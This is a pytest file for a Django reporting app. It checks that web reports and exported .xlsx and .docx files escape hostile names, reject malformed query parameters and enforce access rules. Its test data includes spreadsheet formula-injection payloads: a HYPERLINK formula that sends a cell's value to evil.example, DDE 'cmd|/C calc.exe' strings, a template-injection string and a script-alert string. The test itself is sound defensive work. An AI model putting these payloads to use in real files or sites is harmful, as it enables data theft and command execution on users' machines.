"""Whatever a unit or a person is called and whatever is asked: every report answers in clear words, and its file runs nothing."""

import re
from collections.abc import Callable
from datetime import date
from io import BytesIO
from zipfile import ZipFile

import docx
import openpyxl
import pytest
from django.test import Client
from psycopg.types.range import DateRange
from python_calamine import CalamineWorkbook

from accounts.models import User
from admissions.models import Admission, Candidate
from reports.kinds import DOCUMENTS, KINDS
from tests.small_province import ALWAYS
from units.models import Overseer, Placement, Unit
from units.scope import Action

SignIn = Callable[[User], Client]
ADDRESSES = [(name, ".xlsx") for name in KINDS] + [(name, ".docx") for name in DOCUMENTS]
NAMES = [
    f'=HYPERLINK("http://evil.example/?"&A1,"{"Bấm " * 60}'[:198] + '")',
    "+cmd|' /C calc.exe'!A0",
    "@SUM(1+1)*cmd|' /C calc.exe'!A0",
    "-2+3+cmd|' /C calc.exe'!A0\x0b\x1b",
    "{{ 7*7 }}{% now %}<script>alert(1)</script> _x0041_ & Co.",
]
ASKED = (
    "unit",
    "year",
    "as_of",
    "tree",
    "sort",
    "levels",
    "level",
    "category",
    "group",
    "by",
    "month",
    "compare",
    "page",
)
every_report = pytest.mark.parametrize(("name", "ending"), ADDRESSES, ids=[name for name, _ending in ADDRESSES])


@pytest.fixture
def hostile(year: dict[str, Unit]) -> dict[str, Unit]:
    """Every unit, person and paper of the year bears such a name."""
    for place, unit in enumerate(year.values()):
        name = NAMES[place % len(NAMES)]
        unit.name = unit.report_name = name
        unit.short_name = name[:100]
        unit.save()
    for model in (Admission, Candidate):
        for place, person in enumerate(model.objects.order_by("pk")):
            person.name = f"{NAMES[place % len(NAMES)][:190]} {place}"
            person.save()
    Overseer.objects.update(person=NAMES[0])
    return year


@every_report
def test_no_name_becomes_a_formula_a_field_or_markup(
    signed_in: SignIn, an: User, hostile: dict[str, Unit], name: str, ending: str
) -> None:
    client = signed_in(an)
    for code in ("DLK", "TAN"):
        page = client.get(f"/reports/{name}/?unit={code}")
        assert page.status_code == 200
        assert "<script>alert" not in page.content.decode()
        file = client.get(f"/reports/{name}{ending}?unit={code}")
        assert file.status_code == 200
        (runs_nothing_in_a_workbook if ending == ".xlsx" else runs_nothing_in_a_document)(file.content)


def runs_nothing_in_a_workbook(file: bytes) -> None:
    parts = {
        name: ZipFile(BytesIO(file)).read(name).decode() for name in ZipFile(BytesIO(file)).namelist() if is_xml(name)
    }
    assert not any("evil.example" in text for name, text in parts.items() if name.endswith(".rels"))
    for text in parts.values():
        assert not re.search(r"<(?:\w+:)?(?:f|hyperlink)\b[^>]*>[^<]*(?:evil|cmd)", text)
    book = openpyxl.load_workbook(BytesIO(file))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    texts = [(cell.data_type, cell.value) for cell in cells if isinstance(cell.value, str)]
    assert not [text for kind, text in texts if kind == "f" and ("evil" in text or "cmd" in text)]
    assert any(text[:9] in {name[:9] for name in NAMES} for kind, text in texts if kind == "s")
    read = CalamineWorkbook.from_filelike(BytesIO(file))
    assert any(read.get_sheet_by_name(sheet).to_python() for sheet in read.sheet_names)


def runs_nothing_in_a_document(file: bytes) -> None:
    archive = ZipFile(BytesIO(file))
    for name in filter(is_xml, archive.namelist()):
        text = archive.read(name).decode()
        assert "evil.example" not in text or not name.endswith(".rels")
        assert not re.search(r"<w:(?:fldSimple|instrText|hyperlink)\b[^>]*>[^<]*(?:evil|cmd|49)", text)
    said = "\n".join(paragraph.text for paragraph in docx.Document(BytesIO(file)).paragraphs)
    assert "{{ 7*7 }}" in said or "49" not in said


def is_xml(name: str) -> bool:
    return name.endswith((".xml", ".rels"))


@every_report
def test_whatever_is_asked_is_answered(
    signed_in: SignIn, an: User, year: dict[str, Unit], name: str, ending: str
) -> None:
    client = signed_in(an)
    for address in (f"/reports/{name}/", f"/reports/{name}{ending}"):
        for asked in ASKED:
            answer = client.get(address, {"unit": "TAN", asked: "1\0\x1b[31m\u202e" + "9" * 300})
            assert answer.status_code in (200, 400, 404), asked
            assert answer.status_code != 200 or asked not in ("unit", "year", "as_of", "tree")


@every_report
def test_a_unit_or_a_day_of_which_there_is_little_to_say(
    signed_in: SignIn, an: User, year: dict[str, Unit], name: str, ending: str
) -> None:
    client = signed_in(an)
    newcomer("MOI", "Chi bộ mới", year["LAK"])
    newcomer("SAU", "Chi bộ lập năm sau", year["LAK"], since=date(2024, 1, 1))
    gone = newcomer("CU", "Chi bộ đã giải thể", year["LAK"])
    Unit.objects.filter(pk=gone.pk).update(dissolved_on=date(2023, 6, 1))
    answers = {
        "unit=MOI": 200,
        "unit=CU": 200,
        "unit=SAU": 404,
        "unit=NOBODY": 404,
        "unit=LAK&year=1990": 200,
        "unit=LAK&year=1930": 200,
        "unit=LAK&year=1929": 400,
        "unit=LAK&as_of=2020-02-29": 200,
        "unit=LAK&as_of=2023-02-29": 400,
        "unit=LAK&year=2022&tree=today": 200,
    }
    for address in (f"/reports/{name}/", f"/reports/{name}{ending}"):
        assert {query: client.get(f"{address}?{query}").status_code for query in answers} == answers


def newcomer(code: str, name: str, parent: Unit, since: date | None = None) -> Unit:
    unit = Unit.objects.create(code=code, name=name, kind="GRASSROOTS_CELL", established_on=since)
    Placement.objects.create(unit=unit, parent=parent, during=DateRange(since, None) if since else ALWAYS)
    return unit


@every_report
def test_nobody_reads_a_report_that_is_not_his(
    signed_in: SignIn, chi: User, xem: User, year: dict[str, Unit], name: str, ending: str
) -> None:
    action = KINDS[name].action if name in KINDS else DOCUMENTS[name].action
    reader = 200 if action is Action.READ else 404
    for address in (f"/reports/{name}/?unit=KBO", f"/reports/{name}{ending}?unit=KBO"):
        assert signed_in(chi).get(address).status_code == 404
        assert signed_in(xem).get(address).status_code == reader
        assert Client().get(address).status_code == 302
